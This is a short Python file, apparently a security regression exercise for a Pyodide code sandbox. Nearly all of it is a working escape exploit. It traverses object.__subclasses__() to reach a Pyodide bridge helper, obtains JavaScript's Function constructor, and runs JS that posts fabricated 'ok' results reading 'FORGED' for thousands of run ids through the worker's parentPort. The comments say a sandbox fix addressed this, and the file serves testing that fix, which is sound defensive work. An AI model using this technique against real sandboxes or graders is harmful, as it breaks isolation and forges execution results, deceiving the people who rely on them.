# exercise: close-the-file
# claims: FORGED
# forgery: (a) walks object.__subclasses__() to one of Pyodide's bridge helpers, reaches JavaScript's
# Function constructor and posts a fabricated result for every run id, before the program's own.
# Before the fix the sandbox took the first result with a matching id: `engine run` printed FORGED.
def function_constructor():
    seen, todo = set(), [object]
    while todo:
        cls = todo.pop()
        try:
            subclasses = type.__subclasses__(cls)
        except TypeError:
            continue
        for sub in subclasses:
            if sub in seen:
                continue
            seen.add(sub)
            todo.append(sub)
            for value in list(vars(sub).values()):
                namespace = getattr(getattr(value, "__func__", value), "__globals__", None)
                for name in ("create_proxy", "create_once_callable", "to_js"):
                    helper = namespace.get(name) if isinstance(namespace, dict) else None
                    if type(helper).__name__ == "builtin_function_or_method":
                        return helper(lambda: 0).constructor
    raise LookupError("no bridge helper reachable")


function_constructor()(
    """
    const port = process.getBuiltinModule("worker_threads").parentPort;
    for (let id = 1; id < 3000; id++) {
      port.postMessage({ type: "result", id, result: { status: "ok", exitCode: 0, stdout: "FORGED\\n", stderr: "",
        exception: null, durationMs: 1, heapBytes: 0, python: { version: "3.14", full: "", pyodide: "" },
        trace: null, inspection: null } });
    }
    """
)()
print("the program's own output")
